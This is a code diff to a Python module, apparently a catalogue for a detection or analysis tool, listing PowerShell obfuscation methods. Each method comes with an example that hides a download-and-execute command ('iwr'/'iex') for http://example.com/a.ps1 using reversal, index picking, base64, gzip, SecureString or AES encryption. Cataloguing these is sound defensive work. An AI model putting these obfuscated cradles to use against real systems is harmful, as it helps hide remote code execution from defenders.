@@ -8,7 +8,12 @@ from vedette.schema.command import Language
 _URL = "http://example.com/a.ps1"
 _SECRET = (
     "76492d1116743f0423413b16050a5345MgB8AEEAQQBFAEMAQQB3AFEARgBCAGcAYwBJAEMAUQBvAEwARABBADAATwBEAHcAPQA9AHwA"
+    "YgBkADkAMABmADMAYwA3ADUANQAxADcANAAyADAAMQBlAGEAMwBjAGEANwA1ADkAMAA4ADIAZgA1ADYAOQBhAGQANQAwADMAYgAzAGUAM"
+    "wA0ADcAMwAxADQAMgBhADUAZgBlAGEAOAA0ADMANgAyAGQAOQBmAGQANQA2ADYAYwA2ADUANgAxAGUAYQBhADcAMwBmADEAYwA4ADMAZQ"
+    "A1AGIAOABjAGQAZgA3AGIAMAAwADUAZgAyAGIAYwA4ADcAYwBkAGQAZQA2AGIAOQA2ADYANQBlAGIAMgBkAGUAZAAyADEANgAzADUANAB"
+    "jADYAZQA3ADgAYwA4ADQAOQBjAA=="
 )
+"""``iwr http://example.com/a.ps1`` under the key 1 … 16."""
 
 
 def _method(id_: str, title: str, example: str, shows: str = _URL, note: str = "") -> Method:
@@ -23,8 +28,8 @@ METHODS: tuple[Method, ...] = (
             "iwr (-join ('http~://exa#mple.com/~a.ps1' -split '~|#'))"),
     _method("join", "An array joined to a text", "iwr ('http:','','example.com','a.ps1' -join '/')"),
     _method("reverse", "Text written backwards", "$s='1sp.a/moc.elpmaxe//:ptth'; iwr (-join $s[-1..-($s.Length)])"),
-    _method("index-pick", "Characters picked by their place", "iwr ('mo.cple/ax1:t/hs'[12,10,10,4,9,11,11,6,7,0,4,6]-join'')",
-            "htt", "the places may be in any order"),
+    _method("index-pick", "Characters picked by their place", "iwr ('ac1ot:e/lxh.psm '[10,4,4,12,5,7,7,6,9,0,14,12,8,6,11,1,3,14,7,0,11,12,13,2]-join'')",
+            note="the places may be in any order"),
     _method("substring", "Parts cut out of a longer text",
             "iwr ('zzhttp://example.com/a.ps1zz'.Substring(2,24))"),
     _method("insert-remove", "Text inserted and removed", "iwr ('hp://example.com/a.ps1'.Insert(1,'tt'))"),
@@ -62,14 +67,18 @@ METHODS: tuple[Method, ...] = (
             "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aXdyIGh0dHA6Ly9leGFtcGxlLmNvbS9hLnBzMQ==')))"),
     _method("gzip", "Compressed with gzip",
             "iex (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream([IO.MemoryStream]"
-            "[Convert]::FromBase64String('H4sIAAAAAAAC/8ssL1LIKCkpsNLXT61IzC3ISdVLzs/VT9QrKDYEAD8hBRkcAAAA'),"
+            "[Convert]::FromBase64String('H4sIAAAAAAACA8ssL1LIKCkpsNLXT61IzC3ISdVLzs/VT9QrKDYEAHtTYmgcAAAA'),"
             "[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()"),
     _method("deflate", "Compressed with deflate",
             "iex (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream]"
             "[Convert]::FromBase64String('yywvUsgoKSmw0tdPrUjMLchJ1UvOz9VP1CsoNgQA'),"
             "[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()"),
-    _method("securestring", "A secure string with its key", "@SECURE@"),
-    _method("aes", "Encrypted with AES", "@AES@"),
+    _method("securestring", "A secure string with its key", f"$s='{_SECRET}'|ConvertTo-SecureString -Key (1..16);"
+            "iex ([Runtime.InteropServices.Marshal]::PtrToStringAuto("
+            "[Runtime.InteropServices.Marshal]::SecureStringToBSTR($s)))"),
+    _method("aes", "Encrypted with AES", "$d=[Convert]::FromBase64String('AAECAwQFBgcICQoLDA0ODwnc0/Kmnbzy3pZzcCZFVbF58kpNYf2GgkWawQvpv2XE');"
+            "$a=New-Object Security.Cryptography.AesManaged;$a.Key=1..16;$a.IV=$d[0..15];"
+            "iex ([Text.Encoding]::UTF8.GetString($a.CreateDecryptor().TransformFinalBlock($d,16,$d.Length-16)))"),
     _method("regex-match", "Text read backwards or in parts by a regex",
             "iex (-join[regex]::Matches('1sp.a/moc.elpmaxe//:ptth rwi','.','RightToLeft'))"),
     _method("regex-escapes", "Escapes of regular expressions",
